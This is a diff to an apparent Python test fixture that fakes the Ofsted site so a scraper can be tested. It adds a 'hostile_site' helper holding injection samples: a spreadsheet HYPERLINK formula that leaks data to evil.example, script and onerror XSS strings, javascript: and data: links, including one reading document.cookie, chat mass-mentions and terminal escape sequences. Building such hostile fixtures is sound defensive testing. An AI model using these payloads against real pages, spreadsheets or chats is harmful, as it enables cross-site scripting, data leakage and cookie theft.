@@ -125,6 +125,7 @@ class FakePublication:
     relative: bool = False           # link written as a relative href
     pdf: bytes | None = None
     modified: datetime | None = None  # when the body was last replaced (default: published)
+    href: str | None = None          # the link exactly as listed (hostile: javascript:, data:, a foreign host)
 
 
 def minimal_pdf(lines: list[str]) -> bytes:
@@ -215,6 +216,7 @@ class FakeOfstedSite:
         self.pdf_factory = pdf_factory or default_pdf_factory
         self.markup = "real"            # "real" | "variant" | "changed" | "changed-provider" (pages only)
         self.councils: dict[str, str] = {}         # URN -> name
+        self.search_hrefs: dict[str, str] = {}     # URN -> the search result's link, as listed (default /provider/44/URN)
         self.publications: dict[str, list[FakePublication]] = {}
         self.files: dict[str, FakePublication] = {}
         self.faults: dict[str, list[Fault]] = {}
@@ -245,8 +247,9 @@ class FakeOfstedSite:
 
     def add_publication(self, urn: str, kind: str, published: date, pdf: bytes | None = None,
                         title: str | None = None, *, host: str | None = None, relative: bool = False,
-                        file_id: str | None = None) -> str:
-        """List a publication on the council's page; returns its file URL (as linked)."""
+                        file_id: str | None = None, href: str | None = None) -> str:
+        """List a publication on the council's page; returns its file URL (as linked, or `href`
+        when given: the link exactly as the page lists it)."""
         if str(urn) not in self.councils:
             raise KeyError(f"no council {urn} on the fake site: add_council() it first")
         with self._lock:
@@ -254,10 +257,10 @@ class FakeOfstedSite:
                 self._next_file += 1
                 file_id = str(self._next_file)
             label = title or f"{KIND_LABELS[kind]}, pdf - {published:%d %B %Y}"
-            pub = FakePublication(str(urn), kind, published, label, str(file_id), host, relative, pdf)
+            pub = FakePublication(str(urn), kind, published, label, str(file_id), host, relative, pdf, href=href)
             self.publications[str(urn)].append(pub)
             self.files[pub.file_id] = pub
-            return self.file_url(pub)
+            return href or self.file_url(pub)
 
     def file_url(self, pub: FakePublication) -> str:
         if pub.relative:
@@ -401,7 +404,7 @@ class FakeOfstedSite:
                {html.escape(name)}
           </a></h2><div class="search-result__meta">URN: {urn}</div></div>"""
         return f"""        <li class="search-result">
-          <h3 class="search-result__title heading--sub"><a href="/provider/44/{urn}">{html.escape(name)}</a></h3>
+          <h3 class="search-result__title heading--sub"><a href="{html.escape(self.search_hrefs.get(urn, f'/provider/44/{urn}'))}">{html.escape(name)}</a></h3>
           <ul class="search-result__provider-info list-unstyled">
             <li>Local authority children's services</li>
             <li>URN: {urn}</li>
@@ -445,7 +448,7 @@ class FakeOfstedSite:
                        crumb=html.escape(name)).encode()
 
     def _timeline_item(self, p: FakePublication) -> str:
-        href = f"/v1/file/{p.file_id}" if p.relative else self.file_url(p)
+        href = html.escape(p.href) if p.href else f"/v1/file/{p.file_id}" if p.relative else self.file_url(p)
         label, title = html.escape(KIND_LABELS.get(p.kind, p.kind)), html.escape(p.title)
         when = f'<p class="timeline__date"><time datetime="{p.published}">{p.published:%d %B %Y}</time></p>'
         if self.markup in ("changed", "changed-provider"):
@@ -587,6 +590,36 @@ class _Handler(BaseHTTPRequestHandler):
         self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
         self.close_connection = True
         self.connection.close()
+
+
+# A hostile stand-in of the site: what an attacker who controls its listings could write.
+# Names carry a formula, markup, chat mentions and terminal escapes; links are javascript:,
+# data: and a foreign host (never requested: the test asserts it).
+HOSTILE_NAMES = {
+    "80487": '=HYPERLINK("http://evil.example/?leak="&A2,"Barnet")',
+    "80426": "Barnsley <script>alert(1)</script> <img src=x onerror=alert(2)> *bold* [x](http://evil.example)",
+    "80418": "Norfolk <users/all> @everyone <!channel> @here",
+    "80427": "Bath \x1b]0;pwned\x07\x1b[2J\x1b[31mred\u202eevil\x00\x85",
+}
+HOSTILE_LINKS = {
+    "javascript": "javascript:fetch('/api/v2/variables',{method:'POST',body:'x'})",
+    "data": "data:text/html,<script>alert(document.domain)</script>",
+    "foreign": "https://evil.example/v1/file/666",
+}
+
+
+def hostile_site(**kwargs) -> "FakeOfstedSite":
+    """Four councils with HOSTILE_NAMES; the first lists a publication per HOSTILE_LINKS and
+    its search result links to a `javascript:` URL that still ends in its provider path."""
+    site = FakeOfstedSite(councils=0, **kwargs)
+    for i, (urn, name) in enumerate(HOSTILE_NAMES.items()):
+        site.add_council(urn, name)
+        site._default_publications(i, urn)
+    first = next(iter(HOSTILE_NAMES))
+    for n, href in enumerate(HOSTILE_LINKS.values()):
+        site.add_publication(first, "inspection", date(2025, 1, 1 + n), href=href)
+    site.search_hrefs[first] = f"javascript:alert(document.cookie)//provider/44/{first}"
+    return site
 
 
 def main(argv: list[str] | None = None) -> int:
